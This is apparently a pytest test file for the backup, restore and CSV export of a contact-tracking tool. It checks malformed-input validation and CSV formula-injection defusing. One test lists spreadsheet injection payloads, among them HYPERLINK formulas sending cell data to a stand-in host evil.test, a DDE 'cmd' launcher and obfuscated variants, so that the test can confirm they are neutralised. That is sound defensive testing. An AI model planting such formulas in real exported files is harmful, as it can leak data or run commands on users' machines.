"""Export then restore into an empty data dir gives the same people and interactions."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest

from agent.records import FollowUp
from agent.service.backup import csv_files, document, plan_restore, read_document, write_backup
from agent.service.errors import Invalid
from agent.service.interactions import LogRequest, log
from agent.service.people import link
from agent.store.store import Store


def seeded(data_dir: Path) -> Store:
    store = Store.open(data_dir)
    store.write(lambda s: log(s, LogRequest(kind="in_person", network="linkedin", handle="ada", note="coffee")))
    store.write(
        lambda s: log(
            s,
            LogRequest(kind="dm", network="x", handle="ada_x", ask=True, follow_up=FollowUp("send deck", "2026-12-01")),
        )
    )
    li, x = store.find("linkedin", "ada"), store.find("x", "ada_x")
    assert li and x
    store.write(lambda s: link(s, li.id, x.id))
    return store


def test_backup_restore_round_trip_into_an_empty_data_dir(tmp_path: Path) -> None:
    store = seeded(tmp_path / "a")
    backup = write_backup(store, tmp_path / "backup.json")
    original = store.export_state()
    store.close()
    fresh = Store.open(tmp_path / "b")
    fresh.write(lambda s: plan_restore(s, read_document(backup), replace=False))
    restored = fresh.export_state()
    key = lambda r: r["id"]  # noqa: E731
    assert sorted(restored["people"], key=key) == sorted(original["people"], key=key)
    assert sorted(restored["interactions"], key=key) == sorted(original["interactions"], key=key)
    fresh.close()
    reopened = Store.open(tmp_path / "b")
    assert reopened.counts() == (1, 2)
    reopened.close()


def test_restore_into_a_non_empty_store_needs_replace(tmp_path: Path) -> None:
    store = seeded(tmp_path / "a")
    backup = write_backup(store, tmp_path / "backup.json")
    with pytest.raises(Invalid, match="--replace"):
        store.write(lambda s: plan_restore(s, read_document(backup), replace=False))
    store.write(lambda s: plan_restore(s, read_document(backup), replace=True))
    assert store.counts() == (1, 2)
    store.close()


@pytest.mark.parametrize(
    "content",
    ["not json", "[]", '{"format": "other"}', '{"format": "fathom-export", "people": [{}], "interactions": []}'],
)
def test_restore_of_a_bad_file_is_a_clear_error(tmp_path: Path, content: str) -> None:
    path = tmp_path / "bad.json"
    path.write_text(content)
    with pytest.raises(Invalid):
        read_document(path)


def test_csv_export_has_one_row_per_record(tmp_path: Path) -> None:
    store = seeded(tmp_path / "a")
    files = csv_files(document(store.export_state()))
    store.close()
    people = list(csv.DictReader(io.StringIO(files["people.csv"])))
    inters = list(csv.DictReader(io.StringIO(files["interactions.csv"])))
    assert len(people) == 1 and people[0]["linkedin"] == "ada" and people[0]["x_handle"] == "ada_x"
    assert {i["kind"] for i in inters} == {"in_person", "dm"}
    assert json.dumps(files)  # plain text


@pytest.mark.parametrize(
    "hostile",
    [
        '=HYPERLINK("https://evil.test/?"&B2,"Ada")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
        '\uff1dHYPERLINK("https://evil.test/?"&B2)',  # fullwidth equals sign
        '\u200b=HYPERLINK("https://evil.test/")',  # zero-width space first
        "\ufeff+1+cmd|' /C calc'!A0",  # byte order mark first
        "\u200b\ufeff-2+3",
        "\ufeff@SUM(A1:A9)",
    ],
)
def test_csv_export_defuses_a_formula_from_a_page_or_a_message(tmp_path: Path, hostile: str) -> None:
    """A name read from a profile page or a note from an imported DM is someone else's text: opened in a
    spreadsheet it must stay text (CSV injection); the JSON export keeps it exact."""
    store = Store.open(tmp_path / "a")
    store.write(lambda s: log(s, LogRequest(kind="dm", network="x", handle="evil", note=hostile, name=hostile)))
    state = document(store.export_state())
    store.close()
    files = csv_files(state)
    [person] = csv.DictReader(io.StringIO(files["people.csv"]))
    [message] = csv.DictReader(io.StringIO(files["interactions.csv"]))
    assert person["name"] == message["note"] == "'" + hostile
    assert state["people"][0]["name"] == state["interactions"][0]["note"] == hostile


def test_csv_export_leaves_ordinary_text_alone(tmp_path: Path) -> None:
    store = seeded(tmp_path / "a")
    files = csv_files(document(store.export_state()))
    store.close()
    inters = list(csv.DictReader(io.StringIO(files["interactions.csv"])))
    assert {i["note"] for i in inters} == {"coffee", ""}
    assert all(i["at"][:2] == "20" for i in inters)


def test_restore_refuses_a_file_that_never_ends_without_reading_it(tmp_path: Path) -> None:
    """/dev/zero had the agent killed by the OOM killer: a backup must be a regular file of bounded size."""
    with pytest.raises(Invalid, match="not a regular file"):
        read_document(Path("/dev/zero"))


def test_restore_refuses_a_file_over_the_size_cap(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from agent.service import backup

    path = tmp_path / "big.json"
    path.write_bytes(b" " * 2048)
    monkeypatch.setattr(backup, "MAX_BACKUP_BYTES", 1024)
    with pytest.raises(Invalid, match="larger than"):
        read_document(path)


@pytest.mark.parametrize("version", ['"1"', "1.5", "true", "null", "[1]", '{"a": 1}'])
def test_restore_of_a_non_integer_format_version_is_a_clear_error(tmp_path: Path, version: str) -> None:
    path = tmp_path / "bad.json"
    path.write_text(f'{{"format": "fathom-export", "format_version": {version}, "people": [], "interactions": []}}')
    with pytest.raises(Invalid, match="format_version"):
        read_document(path)


def test_restore_of_deeply_nested_json_is_a_clear_error(tmp_path: Path) -> None:
    path = tmp_path / "deep.json"
    path.write_text('{"format": "fathom-export", "people": ' + "[" * 100_000 + "]" * 100_000 + "}")
    with pytest.raises(Invalid, match="nests too deeply"):
        read_document(path)


def backup_with(tmp_path: Path, person: dict | None = None, interaction: dict | None = None) -> tuple[Path, Store]:
    """A real backup of a seeded store, with one person's or interaction's fields overwritten by hand."""
    store = seeded(tmp_path / "a")
    path = write_backup(store, tmp_path / "backup.json")
    doc = json.loads(path.read_text())
    if person is not None:
        doc["people"][0].update(person)
    if interaction is not None:
        doc["interactions"][0].update(interaction)
    path.write_text(json.dumps(doc))
    return path, store


@pytest.mark.parametrize(
    ("interaction", "reason"),
    [
        ({"kind": "telepathy"}, "kind must be one of"),
        ({"at": "2024-13-45"}, "at must be an ISO 8601"),
        ({"at": 20240101}, "at must be an ISO 8601"),
        ({"direction": "sideways"}, "direction must be one of"),
        ({"network": "myspace"}, "network must be"),
        ({"person": "p_nobody"}, "not in the file"),
        ({"note": "n" * 10_001}, "note is too long"),
        ({"follow_up": {"text": "x", "due": "soon"}}, "at must be"),
        ({"ask": "yes"}, "ask must be true or false"),
    ],
)
def test_restore_checks_every_interaction_with_the_api_rules_and_applies_nothing(
    tmp_path: Path, interaction: dict, reason: str
) -> None:
    path, store = backup_with(tmp_path, interaction=interaction)
    before = store.export_state()
    with pytest.raises(Invalid, match=reason) as info:
        store.write(lambda s: plan_restore(s, read_document(path), replace=True))
    assert "interaction 1" in info.value.message and "Nothing was restored" in info.value.message
    assert store.export_state() == before
    store.close()


@pytest.mark.parametrize(
    ("person", "reason"),
    [
        ({"notes": "n" * 10_001}, "notes is too long"),
        ({"tags": ["enemy"]}, "tags must be"),
        ({"identities": [{"network": "myspace", "handle": "ada"}]}, "network must be"),
        ({"identities": [{"network": "x", "handle": "not a handle!"}]}, "handle"),
        ({"created": "yesterday"}, "created is not"),
        ({"name": ["Ada"]}, "name must be a string"),
        ({"loop_state": {"dm:1": {"state": "done", "until": [[[[["deep"]]]]]}}}, "loop_state"),
    ],
)
def test_restore_checks_every_person_with_the_api_rules_and_applies_nothing(
    tmp_path: Path, person: dict, reason: str
) -> None:
    path, store = backup_with(tmp_path, person=person)
    with pytest.raises(Invalid, match=reason) as info:
        read_document(path)
    assert "person 1" in info.value.message
    store.close()


def test_restore_lists_the_first_problems_and_counts_the_rest(tmp_path: Path) -> None:
    store = Store.open(tmp_path / "a")
    for n in range(15):
        store.write(lambda s, n=n: log(s, LogRequest(kind="dm", network="x", handle=f"u{n}")))
    path = write_backup(store, tmp_path / "backup.json")
    store.close()
    doc = json.loads(path.read_text())
    for item in doc["interactions"]:
        item["at"] = "not a date"
    path.write_text(json.dumps(doc))
    with pytest.raises(Invalid) as info:
        read_document(path)
    assert "15 record(s)" in info.value.message and "(and 5 more)" in info.value.message
    assert info.value.message.count("at must be") == 10


def test_restore_keeps_the_exact_records_of_a_real_backup(tmp_path: Path) -> None:
    """The checks normalise nothing a Fathom backup holds: restored records equal the originals."""
    path, store = backup_with(tmp_path)
    original = json.loads(path.read_text())
    store.close()
    fresh = Store.open(tmp_path / "b")
    fresh.write(lambda s: plan_restore(s, read_document(path), replace=False))
    state = fresh.export_state()
    fresh.close()
    key = lambda r: r["id"]  # noqa: E731
    assert sorted(state["interactions"], key=key) == sorted(original["interactions"], key=key)
    assert sorted(state["people"], key=key) == sorted(original["people"], key=key)


def test_restore_keeps_import_records_so_an_import_can_still_be_undone(tmp_path: Path) -> None:
    from agent.importers import read_linkedin_export
    from agent.service.importing import new_import_id, plan_import, plan_undo
    from tests.fixtures.exports import build

    store = Store.open(tmp_path / "a")
    import_id = new_import_id()
    result = read_linkedin_export(build.linkedin_2025(tmp_path / "li"))
    store.write(lambda s: plan_import(s, result, import_id=import_id, label="export.zip"))
    path = write_backup(store, tmp_path / "backup.json")
    store.close()
    fresh = Store.open(tmp_path / "b")
    fresh.write(lambda s: plan_restore(s, read_document(path), replace=False))
    assert list(fresh.imports()) == [import_id]
    fresh.write(lambda s: plan_undo(s, import_id))
    assert fresh.counts() == (0, 0)
    fresh.close()


@pytest.mark.parametrize(
    "record",
    [
        "not an object",
        {"id": "imp_1", "network": "linkedin", "label": "a.zip", "at": "2024-01-01", "summary": "lots"},
        {"id": "imp_1", "network": "myspace", "label": "a.zip", "at": "2024-01-01", "summary": {}},
        {"id": "imp_1", "network": "x", "label": "a.zip", "at": "whenever", "summary": {}},
        {"id": "imp_1", "network": "x", "label": "a.zip", "at": "2024-01-01", "summary": {"a": [[[[[[[[1]]]]]]]]}},
    ],
)
def test_restore_refuses_an_import_record_that_import_list_could_not_show(tmp_path: Path, record: object) -> None:
    path, store = backup_with(tmp_path)
    store.close()
    doc = json.loads(path.read_text())
    doc["imports"] = [record]
    path.write_text(json.dumps(doc))
    with pytest.raises(Invalid, match="import 1"):
        read_document(path)


def test_an_invalid_person_is_one_problem_not_one_more_per_interaction(tmp_path: Path) -> None:
    path, store = backup_with(tmp_path, person={"tags": "close"})
    store.close()
    with pytest.raises(Invalid) as info:
        read_document(path)
    assert "person 1" in info.value.message
    assert "not in the file" not in info.value.message and "1 record(s)" in info.value.message
